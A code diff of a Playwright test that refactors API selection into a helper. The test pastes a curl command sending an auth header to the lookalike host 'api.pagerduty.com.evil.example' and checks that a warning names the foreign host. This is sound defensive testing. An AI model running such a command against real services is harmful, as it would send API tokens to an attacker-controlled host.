@@ -1,5 +1,6 @@
 import type { Page } from '@playwright/test';
 import { SAMPLE } from '../servers/sample-tokens';
+import { chooseApi } from '../support/choose-api';
 import { openRealPopup } from '../support/real-popup';
 import type { Keybearer } from './support/keybearer';
 import { pasteInto } from './support/paste-into';
@@ -162,7 +163,7 @@ test('the host of a command stands alone, and against the chosen API no button s
 }) => {
   const { page } = keybearer;
   await pasteInto(page, `curl ${header} https://api.pagerduty.com.evil.example/users`);
-  await page.getByLabel('For', { exact: true }).selectOption({ label: 'PagerDuty' });
+  await chooseApi(page, 'PagerDuty');
   const notice = page.getByRole('status').filter({ hasText: 'evil.example' });
   await expect(notice.locator('strong')).toHaveText('evil.example');
   await expect(notice).toContainText('that is not PagerDuty');
